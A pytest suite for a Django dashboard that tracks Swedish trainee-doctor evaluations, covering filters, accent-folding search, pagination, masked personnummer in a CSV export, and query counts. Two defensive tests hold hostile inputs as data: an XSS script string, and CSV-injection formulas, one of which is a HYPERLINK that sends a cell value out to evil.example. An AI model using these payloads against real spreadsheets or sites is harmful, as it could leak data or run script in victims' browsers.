"""The coordinator's overview: counts, filters, pages, the CSV export, and queries that do not grow."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.contrib.auth.hashers import make_password
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from evaluations.models import Evaluation
from mittist.accounts.models import Role, User
from mittist.accounts.personnummer import parse_personnummer
from tests.conftest import case_fields, fictional_pnr

S = Evaluation.State
DASHBOARD = reverse("evaluations:dashboard")
EXPORT = reverse("evaluations:case_export")



@pytest.fixture
def bulk_cases(db, evaluator):
    """Many cases at once, without the services: bulk inserts with distinct fictional personnummer."""
    made = {"n": 0}
    password = make_password(None)

    def create(count, *, states=(S.REGISTERED, S.EVALUATOR_ACCEPTED, S.CONTACT_MADE, S.REPORT_DELIVERED),
               name="Bulk", **overrides):
        start = made["n"]
        made["n"] += count
        users = User.objects.bulk_create([
            User(email=f"bulk{i}@example.org", full_name=f"{name} {i}", role=Role.TRAINEE, password=password)
            for i in range(start, start + count)
        ])
        today = timezone.localdate()
        cases = []
        for offset, user in enumerate(users):
            i = start + offset
            state = states[i % len(states)]
            fields = case_fields(**overrides)
            if state != S.REGISTERED:
                fields.setdefault("evaluator", evaluator)
            if state == S.EVALUATOR_ACCEPTED:
                fields.update(next_due_kind="contact", next_due_on=today + timedelta(days=i % 30 - 10))
            case = Evaluation(trainee=user, state=state, **fields)
            # Years 1950-1969: make_case uses 1985, so the numbers never collide.
            case.set_personnummer(parse_personnummer(fictional_pnr(i % 500, 1950 + i // 500), today=today))
            cases.append(case)
        return Evaluation.objects.bulk_create(cases)

    return create


def rows_of(response):
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")  # Excel needs the BOM to read UTF-8
    return list(csv.reader(io.StringIO(content[1:]), delimiter=";")), content


def listed(response):
    return {case.pk for case in response.context["page_obj"].object_list}


# --- counts, queues, filters ----------------------------------------------------------------------


def test_dashboard_counts_cases_per_state(client, coordinator, make_case):
    for state in [S.REGISTERED, S.REGISTERED, S.EVALUATOR_ACCEPTED, S.CONTACT_MADE]:
        make_case(state)
    make_case(S.REGISTERED, accepted=False)
    client.force_login(coordinator)
    response = client.get(DASHBOARD)
    assert response.status_code == 200
    counts = {state.value: n for state, n in response.context["state_counts"]}
    assert counts[S.REGISTERED] == 3
    assert counts[S.EVALUATOR_ACCEPTED] == 1
    assert counts[S.CONTACT_MADE] == 1
    assert counts[S.CLOSED] == 0
    assert set(counts) == set(S.values)
    html = response.content.decode()
    assert re.search(r'<span class="stat-value">3</span> <span class="stat-label">Anmäld</span>', html)
    assert "5 ärenden" in html


def test_dashboard_queues_split_new_and_accepted_registrations(client, coordinator, make_case):
    new = make_case(S.REGISTERED, accepted=False)
    waiting = make_case(S.REGISTERED)
    make_case(S.EVALUATOR_ACCEPTED)
    client.force_login(coordinator)
    response = client.get(DASHBOARD)
    assert [c.pk for c in response.context["registration_queue"]] == [new.pk]
    assert [c.pk for c in response.context["assignment_queue"]] == [waiting.pk]
    assert reverse("evaluations:assign_evaluator", args=[waiting.pk]) in response.content.decode()


def test_filter_by_state(client, coordinator, make_case):
    accepted = make_case(S.EVALUATOR_ACCEPTED)
    make_case(S.REGISTERED)
    client.force_login(coordinator)
    response = client.get(DASHBOARD, {"state": S.EVALUATOR_ACCEPTED})
    assert listed(response) == {accepted.pk}


def test_filter_by_region(client, coordinator, make_case):
    skane = make_case(S.REGISTERED, region="skane")
    make_case(S.REGISTERED, region="halland")
    client.force_login(coordinator)
    assert listed(client.get(DASHBOARD, {"region": "skane"})) == {skane.pk}


def test_filter_by_evaluator_and_without_evaluator(client, coordinator, make_case, evaluator, other_evaluator):
    with_vera = make_case(S.EVALUATOR_ACCEPTED)
    with_ove = make_case(S.EVALUATOR_ACCEPTED, evaluator_=other_evaluator)
    without = make_case(S.REGISTERED)
    client.force_login(coordinator)
    assert listed(client.get(DASHBOARD, {"evaluator": str(evaluator.pk)})) == {with_vera.pk}
    assert listed(client.get(DASHBOARD, {"evaluator": str(other_evaluator.pk)})) == {with_ove.pk}
    assert listed(client.get(DASHBOARD, {"evaluator": "none"})) == {without.pk}


def test_filter_overdue(client, coordinator, make_case):
    late = make_case(S.EVALUATOR_ACCEPTED)
    on_time = make_case(S.EVALUATOR_ACCEPTED)
    Evaluation.objects.filter(pk=late.pk).update(next_due_on=timezone.localdate() - timedelta(days=1))
    Evaluation.objects.filter(pk=on_time.pk).update(next_due_on=timezone.localdate())
    client.force_login(coordinator)
    response = client.get(DASHBOARD, {"overdue": "on"})
    assert listed(response) == {late.pk}
    assert "Försenad" in response.content.decode()


def test_search_by_name_email_and_workplace(client, coordinator, make_case, make_user):
    anna = make_case(S.REGISTERED, trainee=make_user(Role.TRAINEE, full_name="Anna Åberg", email="anna@vc.example.org"),
                     workplace="Vårdcentralen Tallen")
    make_case(S.REGISTERED, trainee=make_user(Role.TRAINEE, full_name="Bo Berg"), workplace="Vårdcentralen Eken")
    client.force_login(coordinator)
    assert listed(client.get(DASHBOARD, {"q": "Åberg"})) == {anna.pk}
    assert listed(client.get(DASHBOARD, {"q": "aNNa"})) == {anna.pk}
    assert listed(client.get(DASHBOARD, {"q": "ANNA@vc"})) == {anna.pk}
    assert listed(client.get(DASHBOARD, {"q": "tallen"})) == {anna.pk}
    assert listed(client.get(DASHBOARD, {"q": "Anna Tallen"})) == {anna.pk}  # every word must match
    assert listed(client.get(DASHBOARD, {"q": "Anna Eken"})) == set()
    nothing = client.get(DASHBOARD, {"q": "finns-inte"})
    assert listed(nothing) == set()
    assert nothing.context["page_obj"].paginator.count == 0


def test_search_folds_case_and_accents_on_every_database(client, coordinator, make_case, make_user):
    oberg = make_case(S.REGISTERED, trainee=make_user(Role.TRAINEE, full_name="Anna Öberg"),
                      workplace="Vårdcentralen Ängen")
    make_case(S.REGISTERED, trainee=make_user(Role.TRAINEE, full_name="Bo Berg"))
    client.force_login(coordinator)
    for q in ["öberg", "Öberg", "ÖBERG", "oberg", "angen", "ÄNGEN", "öberg ängen"]:
        assert listed(client.get(DASHBOARD, {"q": q})) == {oberg.pk}, q


def test_search_by_personnummer_in_any_accepted_form(client, coordinator, make_case, make_user):
    found = make_case(S.REGISTERED)  # the first case: fictional_pnr(1)
    make_case(S.REGISTERED)
    pnr = fictional_pnr(1)  # "19850202-9811" style
    digits = pnr.replace("-", "")
    client.force_login(coordinator)
    for q in [pnr, digits, pnr[2:], digits[2:], f" {pnr} "]:
        assert listed(client.get(DASHBOARD, {"q": q})) == {found.pk}, q
    assert listed(client.get(DASHBOARD, {"q": fictional_pnr(5)})) == set()


def test_search_by_evaluator_name_and_trainee_email(client, coordinator, make_case, make_user):
    from evaluations.models import Evaluator

    user = make_user(Role.EVALUATOR, full_name="Örjan Ståhl")
    stahl = Evaluator.objects.create(user=user, region="gotland", home_clinic="VC Hav")
    theirs = make_case(S.EVALUATOR_ASSIGNED, evaluator_=stahl,
                       trainee=make_user(Role.TRAINEE, full_name="Cecilia Ek", email="cecilia.ek@vc.example.org"))
    make_case(S.EVALUATOR_ASSIGNED)
    client.force_login(coordinator)
    assert listed(client.get(DASHBOARD, {"q": "orjan stahl"})) == {theirs.pk}
    assert listed(client.get(DASHBOARD, {"q": "Cecilia.Ek@VC.example.org"})) == {theirs.pk}


def test_filters_combine(client, coordinator, make_case):
    target = make_case(S.EVALUATOR_ACCEPTED, region="skane")
    make_case(S.EVALUATOR_ACCEPTED, region="halland")
    make_case(S.REGISTERED, region="skane")
    client.force_login(coordinator)
    assert listed(client.get(DASHBOARD, {"region": "skane", "state": S.EVALUATOR_ACCEPTED})) == {target.pk}


def test_hostile_search_text_is_escaped(client, coordinator, make_case):
    make_case(S.REGISTERED)
    client.force_login(coordinator)
    html = client.get(DASHBOARD, {"q": '"><script>alert(1)</script>'}).content.decode()
    assert "<script>alert(1)</script>" not in html


# --- pagination ------------------------------------------------------------------------------------


def test_pagination_is_25_per_page(client, coordinator, bulk_cases):
    bulk_cases(30)
    client.force_login(coordinator)
    first = client.get(DASHBOARD)
    assert len(first.context["page_obj"].object_list) == 25
    assert first.context["page_obj"].paginator.num_pages == 2
    second = client.get(DASHBOARD, {"page": 2})
    assert len(second.context["page_obj"].object_list) == 5
    assert listed(first).isdisjoint(listed(second))
    assert len(listed(first) | listed(second)) == 30
    assert "Sida 2 av 2" in second.content.decode()


@pytest.mark.parametrize("page", ["999", "abc", "-1", "0"])
def test_out_of_range_page_is_not_an_error(client, coordinator, bulk_cases, page):
    bulk_cases(30)
    client.force_login(coordinator)
    response = client.get(DASHBOARD, {"page": page})
    assert response.status_code == 200
    assert len(response.context["page_obj"].object_list) in (25, 5)


def test_pagination_keeps_the_filters(client, coordinator, bulk_cases):
    bulk_cases(30, states=(S.REGISTERED,), region="skane")
    bulk_cases(5, states=(S.REGISTERED,), region="halland")
    client.force_login(coordinator)
    response = client.get(DASHBOARD, {"region": "skane", "page": 1})
    assert response.context["page_obj"].paginator.count == 30
    assert "?region=skane&amp;page=2" in response.content.decode()
    second = client.get(DASHBOARD, {"region": "skane", "page": 2})
    assert all(c.region == "skane" for c in second.context["page_obj"].object_list)


# --- the search counts its matches up to a cap ------------------------------------------------------


def test_search_past_the_cap_asks_for_more_words_and_pages_through_the_first_matches(
    client, coordinator, bulk_cases, settings
):
    settings.MITTIST_SEARCH_COUNT_CAP = 30
    bulk_cases(40)
    client.force_login(coordinator)

    first = client.get(DASHBOARD, {"q": "Bulk"})

    paginator = first.context["page_obj"].paginator
    assert (paginator.capped, paginator.count, paginator.num_pages) == (True, 30, 2)
    html = first.content.decode()
    assert "Fler än 30 träffar – skriv fler ord för att begränsa sökningen." in html
    assert "40 ärenden" not in html and "30 ärenden" not in html
    assert "Sida 1 av 2 (de första 30 träffarna)" in html
    assert "?q=Bulk&amp;page=2" in html
    second = client.get(DASHBOARD, {"q": "Bulk", "page": 2})
    assert len(second.context["page_obj"].object_list) == 5
    assert not second.context["page_obj"].has_next()
    assert listed(first).isdisjoint(listed(second))
    # The first 30 in the list's own order, as the unsearched list shows them.
    everything = client.get(DASHBOARD)
    assert [c.pk for c in first.context["page_obj"].object_list] == [
        c.pk for c in everything.context["page_obj"].object_list
    ]


@pytest.mark.parametrize("matches", [29, 30])
def test_search_up_to_the_cap_gives_the_exact_count(client, coordinator, bulk_cases, settings, matches):
    settings.MITTIST_SEARCH_COUNT_CAP = 30
    bulk_cases(matches, workplace="Vårdcentralen Ekbacken")
    bulk_cases(10)
    client.force_login(coordinator)
    response = client.get(DASHBOARD, {"q": "ekbacken"})
    assert response.context["page_obj"].paginator.count == matches
    assert not response.context["page_obj"].paginator.capped
    html = response.content.decode()
    assert f"{matches} ärenden" in html
    assert "Fler än" not in html and "de första" not in html


def test_search_counts_no_more_rows_than_one_past_the_cap(client, coordinator, bulk_cases, settings):
    settings.MITTIST_SEARCH_COUNT_CAP = 30
    bulk_cases(40)
    client.force_login(coordinator)
    client.get(DASHBOARD)  # warm up the session
    with CaptureQueriesContext(connection) as queries:
        client.get(DASHBOARD, {"q": "Bulk"})
    counts = [q["sql"] for q in queries.captured_queries if "COUNT(" in q["sql"].upper()]
    assert len(counts) == 1
    assert re.search(r"LIMIT 31\b", counts[0])
    assert "ORDER BY" not in counts[0].upper()  # the count needs no order


def test_state_filter_takes_its_count_from_the_state_counts(client, coordinator, bulk_cases):
    bulk_cases(8)  # two in each of four states
    client.force_login(coordinator)
    client.get(DASHBOARD)  # warm up the session
    with CaptureQueriesContext(connection) as queries:
        response = client.get(DASHBOARD, {"state": S.CONTACT_MADE})
    assert response.context["page_obj"].paginator.count == 2
    assert len(response.context["page_obj"].object_list) == 2
    assert "2 ärenden" in response.content.decode()
    assert not [q for q in queries.captured_queries if "COUNT(" in q["sql"].upper()]


# --- CSV export ------------------------------------------------------------------------------------


def test_export_is_a_csv_file_with_a_header_and_one_row_per_case(client, coordinator, make_case):
    cases = [make_case(S.REGISTERED), make_case(S.EVALUATOR_ACCEPTED), make_case(S.CONTACT_MADE)]
    client.force_login(coordinator)
    response = client.get(EXPORT)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="mitt-i-st-')
    rows, _content = rows_of(response)
    assert rows[0] == ["ST-läkare", "E-post", "Personnummer", "Status", "Värderare", "Region", "Vårdcentral",
                       "Anmäld", "Nästa tidsgräns", "Datum", "Försenad"]
    assert len(rows) == 1 + len(cases)
    by_email = {row[1]: row for row in rows[1:]}
    for case in cases:
        row = by_email[case.trainee.email]
        assert row[0] == case.trainee.full_name
        assert row[3] == case.get_state_display()
        assert row[5] == case.get_region_display()
    assert by_email[cases[1].trainee.email][4] == "Vera Värderare"
    assert by_email[cases[0].trainee.email][4] == ""


def test_export_shows_only_the_masked_personnummer(client, coordinator, make_case):
    cases = [make_case(S.REGISTERED), make_case(S.EVALUATOR_ACCEPTED)]
    client.force_login(coordinator)
    rows, content = rows_of(client.get(EXPORT))
    for case in cases:
        clear = case.personnummer_clear()
        assert clear not in content
        assert clear.replace("-", "") not in content
        assert case.personnummer_masked in content
    assert not re.search(r"\d{8}-?\d{4}", content)
    assert all(row[2].endswith("-****") for row in rows[1:])


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', "+SUM(1+1)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"],
)
def test_export_guards_against_csv_injection(client, coordinator, make_case, make_user, name):
    make_case(S.REGISTERED, trainee=make_user(Role.TRAINEE, full_name=name), workplace=name)
    client.force_login(coordinator)
    rows, _content = rows_of(client.get(EXPORT))
    row = rows[1]
    assert row[0] == "'" + name
    assert row[6] == "'" + name


def test_export_leaves_ordinary_text_alone(client, coordinator, make_case, make_user):
    make_case(S.REGISTERED, trainee=make_user(Role.TRAINEE, full_name="Åsa Öberg; \"Lillan\""))
    client.force_login(coordinator)
    rows, _content = rows_of(client.get(EXPORT))
    assert rows[1][0] == 'Åsa Öberg; "Lillan"'


def test_export_honours_the_filters(client, coordinator, make_case):
    skane = make_case(S.EVALUATOR_ACCEPTED, region="skane")
    make_case(S.EVALUATOR_ACCEPTED, region="halland")
    make_case(S.REGISTERED, region="skane")
    client.force_login(coordinator)
    rows, _content = rows_of(client.get(EXPORT, {"region": "skane", "state": S.EVALUATOR_ACCEPTED}))
    assert [row[1] for row in rows[1:]] == [skane.trainee.email]


def test_export_marks_overdue_cases(client, coordinator, make_case):
    late = make_case(S.EVALUATOR_ACCEPTED)
    Evaluation.objects.filter(pk=late.pk).update(next_due_on=timezone.localdate() - timedelta(days=2))
    client.force_login(coordinator)
    rows, _content = rows_of(client.get(EXPORT, {"overdue": "on"}))
    assert len(rows) == 2
    assert rows[1][8] == "Kontakt med värderaren"
    assert rows[1][10] == "ja"


def test_export_link_on_the_dashboard_carries_the_filters(client, coordinator, make_case):
    make_case(S.REGISTERED)
    client.force_login(coordinator)
    html = client.get(DASHBOARD, {"region": "skane", "page": "2"}).content.decode()
    assert f"{EXPORT}?region=skane" in html
    assert f"{EXPORT}?region=skane&amp;page" not in html


@pytest.mark.parametrize("role", [Role.TRAINEE, Role.EVALUATOR, Role.QUALITY])
def test_export_is_for_the_coordinator_only(client, make_user, make_case, role):
    make_case(S.REGISTERED)
    client.force_login(make_user(role))
    assert client.get(EXPORT).status_code == 403


def test_export_of_many_cases_has_one_row_each(client, coordinator, bulk_cases):
    bulk_cases(1_200)
    client.force_login(coordinator)
    rows, _content = rows_of(client.get(EXPORT))
    assert len(rows) == 1 + 1_200
    assert len({row[1] for row in rows[1:]}) == 1_200


# --- queries do not grow with the number of cases --------------------------------------------------


def query_count(client, url, params=None):
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url, params or {})
    assert response.status_code == 200
    return len(queries.captured_queries)


@pytest.mark.parametrize("params", [{}, {"state": S.EVALUATOR_ACCEPTED}, {"q": "Bulk", "overdue": "on", "page": "2"}])
def test_dashboard_queries_do_not_grow(client, coordinator, bulk_cases, make_case, params):
    make_case(S.REGISTERED, accepted=False)
    make_case(S.REGISTERED)
    bulk_cases(10)
    client.force_login(coordinator)
    client.get(DASHBOARD)  # warm up the session
    small = query_count(client, DASHBOARD, params)
    bulk_cases(990)
    assert Evaluation.objects.count() == 1_002
    large = query_count(client, DASHBOARD, params)
    assert large == small


def test_evaluator_list_queries_do_not_grow(client, coordinator, make_evaluator, bulk_cases):
    for region in ["kalmar", "skane"]:
        make_evaluator(region=region)
    client.force_login(coordinator)
    client.get(reverse("evaluations:evaluator_list"))
    small = query_count(client, reverse("evaluations:evaluator_list"))
    for region in ["gotland", "orebro", "dalarna", "blekinge"]:
        make_evaluator(region=region)
    bulk_cases(200)
    assert query_count(client, reverse("evaluations:evaluator_list")) == small


def test_evaluator_home_queries_do_not_grow(client, evaluator, make_case, bulk_cases):
    make_case(S.EVALUATOR_ASSIGNED)
    make_case(S.EVALUATOR_ACCEPTED)
    make_case(S.REPORT_DELIVERED)  # a finished one: with none, their page is not read at all
    client.force_login(evaluator.user)
    client.get(reverse("evaluations:evaluator_home"))
    small = query_count(client, reverse("evaluations:evaluator_home"))
    for state in [S.EVALUATOR_ASSIGNED, S.CONTACT_MADE, S.PRACTICE_DAY_AGREED, S.REPORT_DELIVERED, S.CLOSED]:
        make_case(state)
    bulk_cases(40)  # all assigned to the same evaluator
    response = client.get(reverse("evaluations:evaluator_home"))
    assert len(response.context["to_answer"]) == 2
    assert query_count(client, reverse("evaluations:evaluator_home")) == small


def test_quality_home_queries_do_not_grow(client, quality, make_case, bulk_cases):
    make_case(S.REPORT_DELIVERED)
    make_case(S.QUALITY_REVIEWED)
    client.force_login(quality)
    client.get(reverse("evaluations:quality_home"))
    small = query_count(client, reverse("evaluations:quality_home"))
    for state in [S.REPORT_DELIVERED, S.QUALITY_REVIEWED, S.CERTIFIED, S.CLOSED]:
        make_case(state)
    bulk_cases(40, states=(S.REPORT_DELIVERED, S.QUALITY_REVIEWED, S.CERTIFIED))
    assert query_count(client, reverse("evaluations:quality_home")) == small


def test_quality_home_lists_only_delivered_reports(client, quality, make_case):
    to_review = make_case(S.REPORT_DELIVERED)
    reviewed = make_case(S.QUALITY_REVIEWED)
    make_case(S.PRACTICE_DAY_HELD)
    client.force_login(quality)
    response = client.get(reverse("evaluations:quality_home"))
    assert [row.case.pk for row in response.context["to_review"]] == [to_review.pk]
    # Reviewed, so certified by the review (make_case drives the real services).
    assert [row.case.pk for row in response.context["reviewed"]] == [reviewed.pk]


def test_evaluator_home_shows_only_the_evaluators_own_cases(client, evaluator, other_evaluator, make_case):
    mine = make_case(S.EVALUATOR_ASSIGNED)
    theirs = make_case(S.EVALUATOR_ASSIGNED, evaluator_=other_evaluator)
    client.force_login(evaluator.user)
    response = client.get(reverse("evaluations:evaluator_home"))
    html = response.content.decode()
    assert mine.trainee.full_name in html
    assert theirs.trainee.full_name not in html
    assert reverse("evaluations:case_action", args=[mine.pk, "accept_assignment"]) in html
